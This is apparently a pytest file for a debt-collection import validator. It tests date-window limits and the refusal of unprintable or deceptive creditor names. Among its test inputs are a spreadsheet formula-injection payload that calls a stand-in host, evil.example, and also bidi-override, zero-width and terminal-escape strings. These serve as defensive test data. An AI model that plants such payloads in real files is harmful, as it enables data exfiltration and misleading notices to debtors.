"""What an import or feed row may say in its dates and creditor names (security findings of
2026-12: a next due date of 9999-12-31 failed every day's cycle; a year-1 itemization date and an
invisible creditor name were printed on validation notices). Each refused row names its column."""

from __future__ import annotations

from datetime import date

import pytest
from arrears.domain import feed
from arrears.domain.intake import AccountRecord
from arrears.domain.rows import FieldProblem, problems_of
from arrears.services.daily_feed import place_of
from pydantic import ValidationError

TODAY = date(2026, 3, 2)  # the file's day
LOAN = {
    "account_id": "RB-1",
    "product_type": "closed_end",
    "currency": "USD",
    "balance": "1200.00",
    "locale": "en-US",
    "time_zone": "America/New_York",
    "jurisdiction": "US",
}
PLACED = LOAN | {
    "placement": "agency",
    "state": "NY",
    "original_creditor": "Bank of Rockville",
    "current_creditor": "Bank of Rockville",
    "itemization_kind": "charge_off",
    "itemization_date": "2026-01-31",
    "itemization_amount": "1200.00",
}


def _problems(row: dict) -> list[tuple[str, str]]:
    """What the import says of a row: the same rules a feed's account row is held to."""
    try:
        AccountRecord.model_validate(row).to_account("main", TODAY, 4)
    except ValidationError as exc:
        return [(p.field, p.reason) for p in problems_of(0, exc)]
    except FieldProblem as exc:
        return [(exc.field, exc.reason)]
    return []


# --- dates ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "day,taken",
    # 400 days after the file's day is 2027-04-06
    [("2027-04-05", True), ("2027-04-06", True), ("2027-04-07", False), ("9999-12-31", False)],
)
def test_a_next_due_date_more_than_400_days_ahead_is_refused(day, taken):
    problems = _problems(LOAN | {"instalment": "50.00", "next_due_date": day})
    refused = [("next_due_date", "is more than 400 days after the file's day (2027-04-06)")]
    assert problems == ([] if taken else refused)


@pytest.mark.parametrize(
    "day,taken",
    # 30 years before the file's day is 1996-03-02; time-barred debt of 5-8 years is well inside
    [("0001-01-01", False), ("1996-03-01", False), ("1996-03-02", True), ("1996-03-03", True),
     ("2018-03-02", True)],
)  # fmt: skip
def test_an_oldest_due_date_more_than_30_years_back_is_refused(day, taken):
    problems = _problems(LOAN | {"amount_past_due": "100.00", "oldest_due_date": day})
    refused = [("oldest_due_date", "is more than 30 years before the file's day (1996-03-02)")]
    assert problems == ([] if taken else refused)


@pytest.mark.parametrize(
    "day,taken", [("0001-01-01", False), ("1996-03-01", False), ("1996-03-02", True), ("1996-03-03", True)]
)
def test_an_itemization_date_more_than_30_years_back_is_refused(day, taken):
    problems = _problems(PLACED | {"itemization_date": day})
    refused = [("itemization_date", "is more than 30 years before the file's day (1996-03-02)")]
    assert problems == ([] if taken else refused)


@pytest.mark.parametrize(
    "day,taken",
    [("0001-01-01", False), ("1926-03-01", False), ("1926-03-02", True), ("1926-03-03", True),
     ("2026-03-02", True), ("2026-03-03", False)],
)  # fmt: skip
def test_an_opened_date_is_within_100_years_and_not_after_today(day, taken):
    problems = _problems(LOAN | {"opened_date": day})
    why = (
        "is more than 100 years before the file's day (1926-03-02)"
        if day < "2026"
        else "is after today (2026-03-02)"
    )
    assert problems == ([] if taken else [("opened_date", why)])


def test_a_feed_account_row_dated_at_the_end_of_the_calendar_is_refused_naming_its_column():
    row = {
        "type": "account",
        "record_id": "d-1",
        **LOAN,
        "instalment": "50.00",
        "next_due_date": "9999-12-31",
    }
    read = feed.read([(1, row), (2, {"type": "trailer", "record_count": "1"})])
    assert read.problems == ()  # the file reads; its dates are judged against the feed's day
    (found,) = read.rows
    with pytest.raises(FieldProblem) as refused:
        found.record.check_dates(TODAY)
    assert refused.value.field == "next_due_date"


@pytest.mark.parametrize(
    "key,taken",
    [("feeds/main/2026-03-02/day.jsonl", True), ("feeds/main/2999-12-31/day.jsonl", True),
     ("feeds/main/9999-12-31/day.jsonl", False), ("feeds/main/0001-01-01/day.jsonl", False)],
)  # fmt: skip
def test_a_feed_file_dated_beyond_reckoning_is_refused_by_its_key(key, taken):
    # the rows' windows are reckoned from the file's day: 9999-12-31 plus 400 days does not exist
    assert (place_of(key) is not None) == taken


# --- creditor names ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name,why",
    [
        ("\u3164\u3164", "has no letter"),  # Hangul fillers: letters to Unicode, blank on paper
        ("Acme Bank \u202eTSURT EGAGTROM\u202c", "has control characters"),  # a bidi override
        ("Ac\u200bme Ba\u200dnk", "has control characters"),  # zero-width space and joiner
        ("Acme\x00\x07\x1b[31mBank", "has control characters"),  # a terminal escape
        ("Acme Bank\nPAY NOW TO 555-0100", "is one line: no line breaks"),
        ("Acme Bank\u2028PAY NOW", "is one line: no line breaks"),
        ('=HYPERLINK("https://evil.example/?"&A1,"Click")', "may not begin with =, +, -, @"),
        ("B" * 121, "String should have at most 120 characters"),
    ],
)
@pytest.mark.parametrize("column", ["original_creditor", "current_creditor"])
def test_a_creditor_name_a_letter_could_not_print_truly_is_refused_naming_its_column(column, name, why):
    (problem,) = _problems(PLACED | {column: name})
    assert problem[0] == column and problem[1].endswith(why)


@pytest.mark.parametrize(
    "name,kept",
    [("Bank of Rockville", "Bank of Rockville"), ("Cafe\u0301  Bank", "Café Bank"), ("B" * 120, "B" * 120),
     ("O'Brien & Sons, LLC", "O'Brien & Sons, LLC")],
)  # fmt: skip
def test_a_creditor_name_is_kept_as_a_letter_prints_it(name, kept):
    account = AccountRecord.model_validate(PLACED | {"original_creditor": name}).to_account("main", TODAY, 4)
    assert account.creditor_data.original_creditor == kept
